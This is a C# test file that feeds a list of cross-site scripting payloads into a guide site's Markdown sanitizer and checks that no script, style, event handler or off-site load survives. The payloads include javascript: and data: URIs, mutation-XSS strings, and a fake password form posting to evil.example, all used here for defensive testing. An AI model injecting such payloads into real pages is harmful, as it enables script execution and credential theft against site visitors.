using AngleSharp.Html.Parser;
using Soudan.Web.Features.Guides;

namespace Soudan.Tests.Features.Guides;

/// <summary>
/// An article's Markdown is written by staff, but an account can be taken over and a guide copied
/// from anywhere: whatever it holds, what reaches a reader runs nothing, styles nothing, and loads
/// nothing from another site.
/// </summary>
public sealed class ArticleMarkdownTests
{
    public static TheoryData<string> Payloads { get; } =
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<a href=\"javascript:alert(1)\">rent help</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">rent help</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "[rent help](javascript:alert(1))",
        "[rent help](  javascript:alert(1)  )",
        "[x](data:text/html,<script>alert(1)</script>)",
        "![a photo](javascript:alert(1))",
        "![a photo](https://tracker.example/pixel.png)",
        "![a photo](//tracker.example/pixel.png)",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">Pay here</p>",
        "<style>body{display:none}</style>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "<base href=\"//evil.example/\">",
        "<form action=//evil.example><input name=password><button>Sign in</button></form>",
        "<details open ontoggle=alert(1)>",
        "<body onload=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<marquee onstart=alert(1)>",
        "<a href=\"https://example.org\" onclick=\"alert(1)\">ok</a>",
        "<<script>script>alert(1)<</script>/script>",
        "<scr<script>ipt>alert(1)</script>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "`<script>alert(1)</script>` and <code onmouseover=alert(1)>x</code>",
        "<template><script>alert(1)</script></template>",
        "<a href=\"https://example.org\" target=\"_blank\" formaction=\"javascript:alert(1)\">x</a>",
    ];

    [Theory]
    [MemberData(nameof(Payloads))]
    public void What_a_reader_gets_runs_nothing_styles_nothing_and_loads_nothing_from_elsewhere(string payload)
    {
        var html = ArticleMarkdown.ToHtml("# Help with rent\n\n" + payload + "\n\nAsk us.");
        var document = new HtmlParser().ParseDocument("<body>" + html + "</body>");

        Assert.Empty(document.QuerySelectorAll("script, iframe, object, embed, style, link, meta, base, form, input, button, svg, math, template, noscript"));
        foreach (var element in document.All)
        {
            foreach (var attribute in element.Attributes)
            {
                Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), $"{attribute.Name} in {html}");
                Assert.NotEqual("style", attribute.Name);
                Assert.NotEqual("formaction", attribute.Name);
                if (attribute.Name is "href" or "src")
                {
                    var value = attribute.Value.Trim();
                    Assert.True(
                        value.StartsWith("https://", StringComparison.Ordinal) || value.StartsWith("http://", StringComparison.Ordinal)
                        || value.StartsWith("mailto:", StringComparison.Ordinal) || value.StartsWith("tel:", StringComparison.Ordinal)
                        || (value.StartsWith('/') && !value.StartsWith("//", StringComparison.Ordinal)),
                        $"{attribute.Name}=\"{value}\" in {html}");
                }
            }
        }

        foreach (var image in document.QuerySelectorAll("img"))
        {
            Assert.StartsWith("/", image.GetAttribute("src") ?? "/", StringComparison.Ordinal);
        }

        // The article before it is kept (what an unclosed element swallows after it may go with it).
        Assert.Equal("Help with rent", document.QuerySelector("h1")!.TextContent);
    }

    [Fact]
    public void Markdown_of_a_guide_keeps_its_headings_lists_tables_links_and_images_of_this_site()
    {
        var html = ArticleMarkdown.ToHtml("""
            ## The leave allowance

            Your employer must pay **60 %** of your average wage (Labor Standards Act, Art. 26).

            - Keep your pay slips
            - Write down the days you were sent home

            | Average wage | Allowance |
            | ---: | ---: |
            | ¥10,000 | ¥6,000 |

            [Work it out](/en/tools/leave-allowance?averageWage=10000) or call <https://example.org/hotline>.

            ![A pay slip with the base pay circled](/media/0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.webp)
            """);
        var document = new HtmlParser().ParseDocument(html);

        Assert.Equal("The leave allowance", document.QuerySelector("h2")!.TextContent);
        Assert.Equal("60 %", document.QuerySelector("strong")!.TextContent);
        Assert.Equal(2, document.QuerySelectorAll("ul li").Length);
        Assert.Equal("¥6,000", document.QuerySelector("table tbody td:last-child")!.TextContent);
        Assert.Equal("/en/tools/leave-allowance?averageWage=10000", document.QuerySelector("a")!.GetAttribute("href"));
        Assert.Equal("https://example.org/hotline", document.QuerySelectorAll("a")[1].GetAttribute("href"));
        Assert.Equal("/media/0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.webp", document.QuerySelector("img")!.GetAttribute("src"));
        Assert.Equal("A pay slip with the base pay circled", document.QuerySelector("img")!.GetAttribute("alt"));
    }

    [Theory]
    [InlineData("<img src=\"/staff/intakes/7\" alt=\"x\">")]
    [InlineData("<img src=\"/staff/cases/7?handler=Assign\" alt=\"x\">")]
    [InlineData("![x](/staff/intakes/7)")]
    [InlineData("<video poster=\"/staff/intakes/7\"><source src=\"/staff/intakes/8\"></video>")]
    [InlineData("<picture><source srcset=\"/staff/intakes/7\"><img src=\"/media/0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.webp\" alt=\"x\"></picture>")]
    [InlineData("<audio src=\"/staff/intakes/7\"></audio><iframe src=\"/staff/intakes/8\"></iframe>")]
    public void Nothing_in_a_guide_makes_a_readers_browser_fetch_a_staff_address(string markdown)
    {
        var html = ArticleMarkdown.ToHtml(markdown);

        Assert.DoesNotContain("/staff", html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("![](/media/0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.webp)", 1)]
    [InlineData("![ ](/media/0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.webp)", 1)]
    [InlineData("![a pay slip](https://example.org/a.png)", 1)]
    [InlineData("![](https://example.org/a.png)", 2)]
    [InlineData("![a pay slip](/media/0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.webp)", 0)]
    [InlineData("No image at all, a [link](https://example.org).", 0)]
    public void An_image_needs_a_description_and_must_be_kept_on_this_site(string markdown, int mistakes) =>
        Assert.Equal(mistakes, ArticleMarkdown.Mistakes(markdown).Count);
}
